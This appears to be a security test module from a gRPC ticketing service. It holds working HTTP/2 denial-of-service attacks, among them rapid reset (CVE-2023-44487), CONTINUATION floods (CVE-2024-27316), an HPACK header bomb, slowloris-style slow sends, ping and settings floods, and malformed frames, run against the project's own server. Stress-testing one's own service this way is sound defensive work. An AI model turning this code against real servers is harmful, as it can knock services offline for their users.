"""Attacks on an HTTP/2 port, below the level of calls: `python -m tests.security.http2_attacks NAME HOST:PORT`.

A process of its own, so that it takes no time from those who call in good order. It goes on until its input ends, and
prints now and then how much it has done, one JSON object a line. Calls that need a token bear that of $TOKEN.
"""

import asyncio
import json
import os
import random
import resource
import struct
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes
from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple as Header
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

REPORT_INTERVAL_S: Final = 0.1
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEALTH_WATCH: Final = "/grpc.health.v1.Health/Watch"
HEALTH_CHECK: Final = "/grpc.health.v1.Health/Check"
RESERVE: Final = "/ticketrush.v1.TicketingService/Reserve"
LIST_EVENTS: Final = "/ticketrush.v1.CatalogService/ListEvents"
LIST_TICKETS: Final = "/ticketrush.v1.TicketingService/ListTickets"
WATCH_TICKETS: Final = "/ticketrush.v1.TicketingService/WatchTickets"
STREAM_ID_MAX: Final = 2**31 - 1
CONNECTIONS: Final = 8
PER_WRITE: Final = 100
IDLE_CONNECTIONS: Final = 2_000
SLOW_CONNECTIONS: Final = 300
STALLED_STREAMS: Final = 500
PAUSE_S: Final = 0.05
A_BYTE_EVERY_S: Final = 0.2
_EMPTY_MESSAGE: Final = bytes(5)

done: Counter[str] = Counter()


class Line:
    """One connection, whose other end may close it at any time."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.next_id = 1

    async def send(self, *sent: bytes | Frame) -> None:
        """Raises OSError when the other end has had enough."""
        self.writer.writelines([one if isinstance(one, bytes) else one.serialize() for one in sent])
        await self.writer.drain()
        # While there is room it does not wait; others want their turn.
        await asyncio.sleep(0)
        if self.reader.at_eof():
            raise ConnectionResetError

    def stream_id(self) -> int:
        """Of a new stream."""
        given, self.next_id = self.next_id, self.next_id + 2
        if given > STREAM_ID_MAX:
            raise ConnectionResetError
        return given


async def hears(line: Line, kind: type[Frame]) -> Frame:
    """The next frame of this kind."""
    while True:
        head = memoryview(await line.reader.readexactly(9))
        frame, length = Frame.parse_frame_header(head)
        frame.parse_body(memoryview(await line.reader.readexactly(length)))
        if isinstance(frame, kind):
            return frame


Attack = Callable[[Line], Awaitable[None]]


async def dial(address: tuple[str, int]) -> Line:
    return Line(*await asyncio.open_connection(*address))


async def again_and_again(address: tuple[str, int], attack: Attack, *, reads: bool = True) -> None:
    """Attacks over one connection after the other; each as long as the other end lets it."""
    while True:
        reading = None
        line = None
        with suppress(OSError):
            line = await dial(address)
            done["connections"] += 1
            if reads:
                reading = asyncio.create_task(_read(line))
            await attack(line)
        if reading is not None:
            reading.cancel()
        if line is not None:
            line.writer.transport.abort()
        # Whoever is refused at once would do nothing but connect.
        await asyncio.sleep(PAUSE_S)


async def _read(line: Line) -> None:
    with suppress(OSError):
        while await line.reader.read(65_536):
            pass


def greeting(**settings: int) -> bytes:
    """What a client begins with, of the library's making."""
    connection = H2Connection(H2Configuration(client_side=True))
    connection.initiate_connection()
    if settings:
        connection.update_settings({SettingCodes[name.upper()]: value for name, value in settings.items()})
    return connection.data_to_send()


def request(path: str, *more: tuple[str, str]) -> bytes:
    """A header block that fits any connection: nothing of it is indexed."""
    token = [("authorization", f"Bearer {os.environ['TOKEN']}")] if not path.startswith("/grpc.") else []
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *token,
        *more,
    ]
    return Encoder().encode([Header(name, value) for name, value in fields])


def message(body: bytes) -> bytes:
    """As gRPC frames it."""
    return struct.pack(">BI", 0, len(body)) + body


def opened(stream_id: int, block: bytes) -> HeadersFrame:
    return HeadersFrame(stream_id, block, flags=["END_HEADERS"])


async def rapid_reset(line: Line) -> None:
    """Streams that are opened and reset in one breath (CVE-2023-44487)."""
    block = request(RESERVE)
    await line.send(greeting())
    while True:
        ids = [line.stream_id() for _ in range(PER_WRITE)]
        done["done"] += PER_WRITE
        await line.send(*(f for one in ids for f in (opened(one, block), RstStreamFrame(one, error_code=8))))


async def whole_then_reset(line: Line) -> None:
    """The same, but that each call is complete, so that it may have been begun."""
    block = request(LIST_EVENTS)
    await line.send(greeting())
    while True:
        ids = [line.stream_id() for _ in range(PER_WRITE)]
        for one in ids:
            body = DataFrame(one, _EMPTY_MESSAGE, flags=["END_STREAM"])
            await line.send(opened(one, block), body, RstStreamFrame(one, error_code=8))
        done["done"] += PER_WRITE
        await asyncio.sleep(PAUSE_S)


async def endless_headers(line: Line) -> None:
    """CONTINUATION after CONTINUATION, without an end (CVE-2024-27316)."""
    field = Encoder().encode([Header("x-bomb", "x" * 1_000)]) * 15
    await line.send(greeting())
    stream_id = line.stream_id()
    await line.send(HeadersFrame(stream_id, request(HEALTH_CHECK)))
    while True:
        await line.send(*(ContinuationFrame(stream_id, field) for _ in range(10)))
        done["done"] += 10


def planted(stream_id: int) -> HeadersFrame:
    """Puts a long header into the connection's table."""
    header = Encoder().encode([("x-bomb", "x" * 3_900)])
    return HeadersFrame(stream_id, request(HEALTH_CHECK) + header, flags=["END_HEADERS", "END_STREAM"])


def bomb(stream_id: int) -> Sequence[Frame]:
    """The newest entry of the table has the index 62, and one byte names it."""
    names = b"\xbe" * 16_000
    return (
        HeadersFrame(stream_id, request(HEALTH_CHECK)),
        ContinuationFrame(stream_id, names),
        ContinuationFrame(stream_id, names, flags=["END_HEADERS"]),
    )


async def header_bomb(line: Line) -> None:
    """A header in the connection's table, named ten thousand times in as many bytes: forty megabytes each."""
    await line.send(greeting())
    await line.send(planted(line.stream_id()))
    while True:
        await line.send(*bomb(line.stream_id()))
        done["done"] += 1
        await asyncio.sleep(A_BYTE_EVERY_S)


async def many_headers(line: Line) -> None:
    """Whole requests with as much metadata as goes into one block."""
    block = request(HEALTH_CHECK, *((f"x-{number}", "x" * 100) for number in range(100)))
    await line.send(greeting())
    while True:
        stream_id = line.stream_id()
        body = DataFrame(stream_id, _EMPTY_MESSAGE, flags=["END_STREAM"])
        await line.send(opened(stream_id, block), body)
        done["done"] += 1
        await asyncio.sleep(PAUSE_S)


async def slow_body(line: Line) -> None:
    """A message of four megabytes, one byte at a time."""
    await line.send(greeting())
    ids = [line.stream_id() for _ in range(10)]
    for one in ids:
        await line.send(opened(one, request(RESERVE)), DataFrame(one, struct.pack(">BI", 0, 4_000_000)))
    while True:
        for one in ids:
            await line.send(DataFrame(one, b"x"))
            done["done"] += 1
        await asyncio.sleep(A_BYTE_EVERY_S)


async def slow_greeting(line: Line) -> None:
    """The preface, one byte at a time, and then nothing."""
    for byte in PREFACE:
        await line.send(bytes([byte]))
        done["done"] += 1
        await asyncio.sleep(A_BYTE_EVERY_S)
    while True:
        await line.send(b"")
        await asyncio.sleep(A_BYTE_EVERY_S)


async def no_window(line: Line) -> None:
    """Answers are asked for that there is no room for: of calls, and of streams."""
    event_id = os.environ["EVENT_ID"].encode()
    about = message(b"\x0a" + bytes([len(event_id)]) + event_id)
    await line.send(greeting(initial_window_size=0))
    paths = (LIST_TICKETS, WATCH_TICKETS, HEALTH_WATCH)
    for number in range(STALLED_STREAMS):
        path = paths[number % len(paths)]
        body = _EMPTY_MESSAGE if path == HEALTH_WATCH else about
        stream_id = line.stream_id()
        await line.send(opened(stream_id, request(path)), DataFrame(stream_id, body, flags=["END_STREAM"]))
        done["done"] += 1
        await asyncio.sleep(0.002)
    while True:
        await line.send(PingFrame(0, bytes(8)))
        await asyncio.sleep(1)


async def ping_flood(line: Line) -> None:
    """Each ping wants an answer, which is not read."""
    await line.send(greeting())
    while True:
        await line.send(*([PingFrame(0, bytes(8))] * PER_WRITE))
        done["done"] += PER_WRITE


async def settings_flood(line: Line) -> None:
    """Each wants to be acknowledged, which is not read."""
    await line.send(greeting())
    change = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1_000, SettingsFrame.HEADER_TABLE_SIZE: 0})
    while True:
        await line.send(*([change] * PER_WRITE))
        done["done"] += PER_WRITE


async def invalid_frames(line: Line) -> None:
    """Each breaks a rule of RFC 9113; after most of them the other end hangs up."""
    one, two = line.stream_id(), line.stream_id()
    block = request(HEALTH_CHECK)
    broken: Sequence[Sequence[bytes | Frame]] = (
        [DataFrame(one, b"before its headers")],
        [raw(0x0, 0, b"on the connection")],
        [HeadersFrame(2, block, flags=["END_HEADERS"])],
        [opened(two, block), opened(one, block)],
        [HeadersFrame(one, block), PingFrame(0, bytes(8))],
        [raw(0x9, one, b"a continuation of nothing")],
        [HeadersFrame(one, b"\xff" * 20, flags=["END_HEADERS"])],
        [HeadersFrame(one, b"\x80", flags=["END_HEADERS"])],
        [HeadersFrame(one, b"", flags=["END_HEADERS"])],
        [WindowUpdateFrame(0, 2**31 - 1), WindowUpdateFrame(0, 2**31 - 1)],
        [raw(0x8, one, bytes(4))],
        [raw(0x8, 0, b"\0")],
        [raw(0x4, 0, b"12345")],
        [raw(0x4, one, b"")],
        [raw(0x4, 0, struct.pack(">HI", 4, 2**31))],
        [raw(0x4, 0, struct.pack(">HI", 5, 1))],
        [raw(0x4, 0, b"", flags=1)] * 50,
        [raw(0x6, 0, b"1")],
        [raw(0x6, one, bytes(8))],
        [raw(0x3, 0, bytes(4))],
        [raw(0x3, one, b"")],
        [raw(0x2, one, struct.pack(">IB", one, 1))],
        [PriorityFrame(99, depends_on=99)],
        [PushPromiseFrame(one, 2, data=block, flags=["END_HEADERS"])],
        [GoAwayFrame(0, error_code=0xFFFFFFFF, additional_data=bytes(1_000)), opened(one, block)],
        [ExtensionFrame(0xAB, one, flag_byte=0xFF, body=bytes(1_000))] * 50,
        [opened(one, block), raw(0x0, one, b"\xff1", flags=8)],
        [struct.pack(">I", 2**24 - 1)[1:] + b"\0\0" + struct.pack(">I", one), bytes(30_000)],
        [opened(one, block), DataFrame(one, struct.pack(">BI", 0, 2**32 - 1), flags=["END_STREAM"])],
        [opened(one, block), DataFrame(one, b"\xff" + bytes(4), flags=["END_STREAM"])],
        [opened(one, block), DataFrame(one, message(b"")[:3], flags=["END_STREAM"])],
        [opened(one, block), DataFrame(one, message(b"") * 3, flags=["END_STREAM"])],
    )
    await line.send(greeting(), *random.choice(broken))
    done["done"] += 1
    await asyncio.sleep(PAUSE_S)


def raw(kind: int, stream_id: int, body: bytes, *, flags: int = 0) -> bytes:
    """A frame that no library makes."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + body


async def garbage(line: Line) -> None:
    """What is no HTTP/2 at all."""
    spoken = (
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n",
        bytes.fromhex("16030100c6010000c20303") + bytes(200),
        b"EHLO example.com\r\n",
        b"AMQP\0\0\x09\x01",
        PREFACE[:-1] + b"X",
        PREFACE * 20,
        bytes(100_000),
        random.randbytes(random.choice((1, 9, 24, 1_000, 60_000))),
        PREFACE + random.randbytes(10_000),
        greeting() + random.randbytes(10_000),
    )
    await line.send(random.choice(spoken))
    done["done"] += 1
    await asyncio.sleep(PAUSE_S)


async def idle(line: Line) -> None:
    """Takes a connection and says nothing, or no more than a greeting."""
    if random.random() < 0.5:
        await line.send(greeting())
    done["done"] += 1
    while await line.reader.read(65_536):
        pass
    # It was thrown out.
    done["done"] -= 1


# How many connections attack at a time, and whether they read what comes back.
ATTACKS: Final[dict[str, tuple[Attack, int, bool]]] = {
    "rapid_reset": (rapid_reset, CONNECTIONS, True),
    "whole_then_reset": (whole_then_reset, CONNECTIONS, True),
    "endless_headers": (endless_headers, CONNECTIONS, True),
    "header_bomb": (header_bomb, CONNECTIONS, True),
    "many_headers": (many_headers, CONNECTIONS, True),
    "slow_body": (slow_body, SLOW_CONNECTIONS, True),
    "slow_greeting": (slow_greeting, SLOW_CONNECTIONS, True),
    "no_window": (no_window, 1, True),
    "ping_flood": (ping_flood, CONNECTIONS, False),
    "settings_flood": (settings_flood, CONNECTIONS, False),
    "idle": (idle, IDLE_CONNECTIONS, False),
    "invalid_frames": (invalid_frames, CONNECTIONS, True),
    "garbage": (garbage, CONNECTIONS, True),
}


async def main(name: str, address: str) -> None:
    host, _, port = address.rpartition(":")
    attack, connections, reads = ATTACKS[name]
    tasks = [asyncio.create_task(again_and_again((host, int(port)), attack, reads=reads)) for _ in range(connections)]
    tasks.append(asyncio.create_task(_report()))
    ended = asyncio.create_task(asyncio.to_thread(sys.stdin.read))
    finished, _ = await asyncio.wait({ended, *tasks}, return_when=asyncio.FIRST_COMPLETED)
    for task in finished:
        task.result()


async def _report() -> None:
    while True:
        print(json.dumps(done), flush=True)  # noqa: T201 # for who started us
        await asyncio.sleep(REPORT_INTERVAL_S)


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(main(*sys.argv[1:]))
